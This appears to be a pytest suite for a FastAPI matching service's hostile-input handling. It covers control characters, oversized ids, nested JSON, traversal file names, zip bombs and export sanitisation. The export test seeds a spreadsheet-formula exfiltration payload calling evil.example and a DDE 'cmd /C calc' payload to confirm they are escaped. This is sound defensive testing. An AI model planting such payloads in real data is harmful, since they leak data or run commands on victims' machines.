"""Hostile requests get a 4xx naming the field and the reason, never a 500
(each test runs on SQLite and on PostgreSQL)."""

from __future__ import annotations

import io
import json

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select

from models import Demand, ImportLog
from tests.api.conftest import World

BIG = 2**31  # one past PostgreSQL's INTEGER
HUGE = 10**20


def _fields(r) -> list[str]:  # type: ignore[no-untyped-def]
    detail = r.json()["detail"]
    assert isinstance(detail, list), r.text
    assert all(d["reason"] for d in detail), r.text
    return [d["field"] for d in detail]


# ------------------------------------------------------------ query parameters

FILTERS = [
    ("/demands", "q"),
    ("/demands", "city"),
    ("/demands", "industry"),
    ("/demands", "status"),
    ("/enterprises", "q"),
    ("/enterprises", "city"),
    ("/enterprises", "industry"),
    ("/experts", "q"),
    ("/experts", "city"),
    ("/experts", "discipline"),
    ("/societies", "q"),
    ("/societies", "city"),
    ("/societies", "discipline"),
    ("/search", "q"),
    ("/search", "region"),
    ("/search", "discipline"),
    ("/web/demands", "q"),
    ("/web/search", "q"),
]


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b"])
def test_control_characters_in_filters_are_422(client: TestClient, staff: dict[str, str], char: str) -> None:
    for path, param in FILTERS:
        value = f"电池{char}材料"
        r = client.get(path, headers=staff, params={param: value, **({"q": "电池材料"} if param != "q" else {})})
        assert r.status_code == 422, (path, param, r.status_code, r.text[:200])
        assert _fields(r) == [param], (path, param)
        assert "控制字符" in r.json()["detail"][0]["reason"]


def test_unknown_status_is_422(client: TestClient, staff: dict[str, str]) -> None:
    r = client.get("/demands", headers=staff, params={"status": "x"})
    assert r.status_code == 422 and _fields(r) == ["status"]
    assert "open" in r.json()["detail"][0]["reason"]
    assert client.get("/demands", headers=staff, params={"status": "open,matched"}).status_code == 200


def test_unknown_status_on_the_web_page_is_422(client: TestClient) -> None:
    from tests.api.test_web_pages import web_login

    web_login(client, "staff", "staff123")
    r = client.get("/web/demands", params={"status": "x"})
    assert r.status_code == 422
    assert "未知的状态" in r.text
    assert client.get("/web/demands", params={"status": "open"}).status_code == 200


# ------------------------------------------------------------ ids beyond INTEGER


def _id_routes(world: World) -> list[tuple[str, str, str]]:
    return [
        ("GET", "/demands/{}", "demand_id"),
        ("GET", "/demands/{}/feedback", "demand_id"),
        ("GET", "/demands/{}/matches", "demand_id"),
        ("GET", "/enterprises/{}", "enterprise_id"),
        ("GET", "/experts/{}", "expert_id"),
        ("GET", "/experts/{}/recommendations", "expert_id"),
        ("GET", "/societies/{}", "society_id"),
        ("GET", "/societies/{}/recommendations", "society_id"),
        ("GET", "/events/{}", "event_id"),
        ("GET", "/events/{}/plan", "event_id"),
        ("POST", "/events/{}/plan", "event_id"),
        ("GET", "/events/{}/plan.xlsx", "event_id"),
        ("GET", "/imports/{}", "import_id"),
    ]


@pytest.mark.parametrize("ident", [BIG, HUGE])
def test_ids_beyond_integer_are_422(client: TestClient, staff: dict[str, str], world: World, ident: int) -> None:
    for method, template, field in _id_routes(world):
        r = client.request(method, template.format(ident), headers=staff)
        assert r.status_code == 422, (template, r.status_code, r.text[:200])
        assert _fields(r) == [field], template
    r = client.patch(f"/demands/{ident}", headers=staff, json={"title": "新标题"})
    assert r.status_code == 422 and _fields(r) == ["demand_id"]
    r = client.post(f"/experts/{ident}/feedback", headers=staff, json={"demand_id": 1, "choice": "declined"})
    assert r.status_code == 422 and _fields(r) == ["expert_id"]
    for param in ("demand_id", "expert_id", "society_id"):
        r = client.get("/outcomes", headers=staff, params={param: ident})
        assert r.status_code == 422 and _fields(r) == [param]
    r = client.get("/demands", headers=staff, params={"enterprise_id": ident})
    assert r.status_code == 422 and _fields(r) == ["enterprise_id"]
    r = client.get(f"/events/{1}/plan", headers=staff, params={"version": ident})
    assert r.status_code == 422 and _fields(r) == ["version"]


@pytest.mark.parametrize("ident", [BIG, HUGE])
def test_ids_beyond_integer_in_bodies_are_422(
    client: TestClient, staff: dict[str, str], world: World, ident: int
) -> None:
    outcome = {"demand_id": world.battery_demand, "expert_id": world.battery_expert, "status": "contacted"}
    for field in ("demand_id", "expert_id", "society_id", "match_item_id"):
        body = {**outcome, field: ident}
        if field == "society_id":
            body.pop("expert_id")
        r = client.post("/outcomes", headers=staff, json=body)
        assert r.status_code == 422 and _fields(r) == [field], (field, r.text[:200])
    r = client.post("/demands", headers=staff, json={"enterprise_id": ident, "title": "t", "description": "d"})
    assert r.status_code == 422 and _fields(r) == ["enterprise_id"]
    r = client.post(
        f"/experts/{world.battery_expert}/feedback", headers=staff, json={"demand_id": ident, "choice": "declined"}
    )
    assert r.status_code == 422 and _fields(r) == ["demand_id"]


# ------------------------------------------------------------ request bodies


def send(client: TestClient, method: str, url: str, headers: dict[str, str], body: object):  # type: ignore[no-untyped-def]
    """JSON with ASCII escapes, so a lone surrogate can be sent as ``\\ud800``."""
    return client.request(method, url, headers={**headers, "content-type": "application/json"},
                          content=json.dumps(body))


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x0b", "\ud800"])
def test_control_characters_in_bodies_are_422(
    client: TestClient, staff: dict[str, str], world: World, session_factory, char: str  # type: ignore[no-untyped-def]
) -> None:
    new = {"enterprise_name": "福州示例有限公司", "city": "福州市", "title": f"电池{char}材料", "description": "说明"}
    r = send(client, "POST", "/demands", staff, new)
    assert r.status_code == 422 and _fields(r) == ["title"], r.text[:300]
    r = send(client, "POST", "/demands", staff, {**new, "title": "电池材料", "keywords": ["ok", f"a{char}"]})
    assert r.status_code == 422 and _fields(r) == ["keywords"]
    r = send(client, "PATCH", f"/demands/{world.battery_demand}", staff, {"description": f"x{char}y"})
    assert r.status_code == 422 and _fields(r) == ["description"]
    r = send(
        client,
        "POST",
        "/outcomes",
        staff,
        {"demand_id": world.battery_demand, "expert_id": world.battery_expert, "status": "visited",
              "notes": f"备注{char}"},
    )
    assert r.status_code == 422 and _fields(r) == ["notes"]
    r = send(client, "POST", "/events", staff, {"name": f"活动{char}", "starts_on": "2030-01-01"})
    assert r.status_code == 422 and _fields(r) == ["name"]
    with session_factory() as s:
        assert s.scalar(select(Demand).where(Demand.title.contains("电池"))) is None or all(
            char not in d.title for d in s.scalars(select(Demand))
        )
    # tabs and line breaks in free text stay allowed
    ok = send(client, "POST", "/demands", staff, {**new, "title": "电池材料", "description": "第一行\n\t第二行"})
    assert ok.status_code == 201, ok.text


def test_deeply_nested_json_body_is_4xx(client: TestClient, staff: dict[str, str]) -> None:
    body = "[" * 200_000 + "]" * 200_000
    r = client.post("/demands", headers={**staff, "content-type": "application/json"}, content=body)
    assert 400 <= r.status_code < 500, r.status_code


# ------------------------------------------------------------ uploads


@pytest.mark.parametrize(
    "name",
    ["a" * 296 + ".csv", "..", ".", "../..", "dir/..", "长" * 150 + ".csv"],
)
def test_bad_upload_names_are_422(client: TestClient, staff: dict[str, str], session_factory, name: str) -> None:  # type: ignore[no-untyped-def]
    content = "姓名,工作单位,研究方向\n陈海洋,集美大学,海洋\n".encode()
    r = client.post("/imports?wait=true", headers=staff, data={"kind": "experts"}, files={"file": (name, content, "text/csv")})
    assert r.status_code == 422, (name[:20], r.status_code, r.text[:200])
    assert _fields(r) == ["file"]
    assert "文件名" in r.json()["detail"][0]["reason"]
    with session_factory() as s:
        assert s.scalar(select(ImportLog)) is None


@pytest.mark.parametrize("name", ["\x00.csv", "坏\x01名字.csv", "..", "a" * 300])
def test_upload_name_rejects(name: str) -> None:
    from api.errors import http_error
    from kejie.errors import FieldProblem
    from kejie.imports import upload_name

    with pytest.raises(FieldProblem) as info:
        upload_name(name)
    assert info.value.field == "file"
    mapped = http_error(info.value)  # the one mapping to HTTP
    assert mapped.status_code == 422 and mapped.detail[0]["field"] == "file"


def test_path_in_upload_name_is_dropped(client: TestClient, staff: dict[str, str]) -> None:
    content = "姓名,工作单位,研究方向\n陈海洋,集美大学,海洋\n".encode()
    r = client.post(
        "/imports?wait=true", headers=staff, data={"kind": "experts"},
        files={"file": ("../../etc/专家.csv", content, "text/csv")},
    )
    assert r.status_code == 201, r.text
    assert r.json()["filename"] == "专家.csv"


def test_deeply_nested_json_upload_is_422(client: TestClient, staff: dict[str, str]) -> None:
    content = b"[" * 200_000 + b"]" * 200_000
    r = client.post(
        "/imports?wait=true", headers=staff, data={"kind": "experts"}, files={"file": ("deep.json", content, "application/json")}
    )
    assert r.status_code == 422, r.text[:200]
    assert _fields(r) == ["file"] and "deep.json" in r.json()["detail"][0]["reason"]


def test_nul_row_in_upload_costs_only_itself(client: TestClient, staff: dict[str, str], session_factory) -> None:  # type: ignore[no-untyped-def]
    rows = [{"姓名": f"专家{i}", "工作单位": "集美大学", "研究方向": "海洋", "手机": f"1351111222{i}"} for i in range(6)]
    rows[3]["研究方向"] = "海洋\u0000生物"
    content = json.dumps(rows, ensure_ascii=False).encode()
    r = client.post(
        "/imports?wait=true", headers=staff, data={"kind": "experts"}, files={"file": ("专家.json", content, "application/json")}
    )
    assert r.status_code == 201, r.text
    report = r.json()
    assert (report["inserted"], report["rejected"]) == (5, 1)
    [reject] = report["rejects"]
    assert reject["row"] == 4 and reject["field"] == "研究方向" and "U+0000" in reject["reason"]
    assert reject["file"] == "专家.json"


# ------------------------------------------------------------ export of stored hostile text


def test_plan_xlsx_with_control_characters_and_formulas(
    client: TestClient, staff: dict[str, str], world: World, session_factory,  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from kejie.match_service import MatchService
    from tests.kejie.test_event_plan import TableScorer

    # the plan's content is not under test here, only its export: every pair scores well
    monkeypatch.setattr(MatchService, "score_matrix", lambda self, *args: TableScorer(0.9)(*args))
    with session_factory() as s:
        for d in s.scalars(select(Demand)):
            d.title = '=HYPERLINK("http://evil.example/?d="&A1,"x")\x0b\x01' + d.title
            d.enterprise.name = f"=cmd|' /C calc'!A0 {d.enterprise_id}"
        s.commit()
    ev = client.post("/events", headers=staff, json={"name": "宁德站", "starts_on": "2030-05-10"}).json()
    planned = client.post(f"/events/{ev['id']}/plan", headers=staff)
    assert planned.status_code == 201 and planned.json()["items"], planned.text[:300]
    for contacts in ("false", "true"):
        r = client.get(f"/events/{ev['id']}/plan.xlsx", headers=staff, params={"contacts": contacts})
        assert r.status_code == 200, r.text[:200]
        wb = load_workbook(io.BytesIO(r.content))
        values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert all(c.data_type == "s" and not c.value.startswith(("=", "+", "-", "@")) for c in values)
        assert any(c.value.startswith("'=cmd|' /C calc'!A0") for c in values)
    r = client.get(f"/events/{ev['id']}/plan.csv", headers=staff)
    assert r.status_code == 200 and "'=HYPERLINK" in r.text and "\x0b" not in r.text


def test_xlsx_zip_bomb_upload_is_422_naming_the_limit(
    client: TestClient, staff: dict[str, str], tmp_path, session_factory  # type: ignore[no-untyped-def]
) -> None:
    from tests.ingest.test_hostile_files import SHEET, _inflate_sheet, _rewrite, _small_workbook

    bomb = _rewrite(_small_workbook(tmp_path / "需求.xlsx"), SHEET, _inflate_sheet(300))
    r = client.post(
        "/imports?wait=true", headers=staff, data={"kind": "demands"},
        files={"file": ("炸弹.xlsx", bomb.read_bytes(), "application/octet-stream")},
    )
    assert r.status_code == 422, r.text[:200]
    [detail] = r.json()["detail"]
    assert detail["field"] == "file" and "炸弹.xlsx" in detail["reason"] and "256 MB" in detail["reason"]
    with session_factory() as s:
        assert s.scalar(select(Demand).where(Demand.title.like("需求%"))) is None


# ------------------------------------------------------------ contract: LIKE wildcards and JSON lists


@pytest.mark.parametrize("path", ["/demands", "/enterprises", "/experts", "/societies"])
@pytest.mark.parametrize("q", ["%", "_", "%%", "!%"])
def test_like_wildcards_in_q_are_literal(client: TestClient, staff: dict[str, str], path: str, q: str) -> None:
    r = client.get(path, headers=staff, params={"q": q})
    assert r.status_code == 200 and r.json()["total"] == 0, (path, q, r.json()["total"])
    assert client.get(path, headers=staff).json()["total"] > 0


def test_percent_in_q_finds_the_literal_text(client: TestClient, staff: dict[str, str], world: World) -> None:
    r = client.patch(f"/demands/{world.tcm_demand}", headers=staff, json={"title": "有效成分提取率提高50%"})
    assert r.status_code == 200, r.text
    found = client.get("/demands", headers=staff, params={"q": "50%"}).json()
    assert [d["id"] for d in found["items"]] == [world.tcm_demand]


@pytest.mark.parametrize("value", ["1", "u", "5", "e5", "\\u", "\\", '"'])
def test_discipline_never_matches_inside_json_escapes(client: TestClient, staff: dict[str, str], value: str) -> None:
    assert client.get("/experts", headers=staff, params={"discipline": value}).json()["total"] == 0
    assert client.get("/societies", headers=staff, params={"discipline": value}).json()["total"] == 0


def test_discipline_still_matches_elements(client: TestClient, staff: dict[str, str]) -> None:
    def names(value: str) -> list[str]:
        return [e["name"] for e in client.get("/experts", headers=staff, params={"discipline": value}).json()["items"]]

    assert names("中药") == ["王中药"] and names("化学") == ["张院士"]
    assert names("材料科学与工程") == ["李电池"]


def test_upload_over_the_limit_says_the_limit(client: TestClient, staff: dict[str, str]) -> None:
    big = b"a,b\n" + b"x" * (22 * 1024 * 1024)
    r = client.post("/imports?wait=true", headers=staff, data={"kind": "experts"}, files={"file": ("big.csv", big, "text/csv")})
    assert r.status_code == 413, r.text[:200]
    assert r.json()["detail"] == [{"field": "file", "reason": "上传内容超过 20 MB 的上限，请拆分后再上传"}]
    just_over = b"a,b\n" + b"x" * (20 * 1024 * 1024 + 10)
    r = client.post(
        "/imports?wait=true", headers=staff, data={"kind": "experts"}, files={"file": ("big.csv", just_over, "text/csv")}
    )
    assert r.status_code == 422 and "20 MB" in r.json()["detail"][0]["reason"]


def test_documented_422_matches_the_body(client: TestClient, staff: dict[str, str]) -> None:
    schema = client.get("/openapi.json").json()["components"]["schemas"]
    item = schema["ValidationError"]
    assert set(item["properties"]) == {"field", "reason"} and item["required"] == ["field", "reason"]
    assert schema["HTTPValidationError"]["properties"]["detail"]["items"] == {"$ref": "#/components/schemas/ValidationError"}
    body = client.get("/demands", headers=staff, params={"status": "x"}).json()
    assert set(body["detail"][0]) == set(item["properties"])
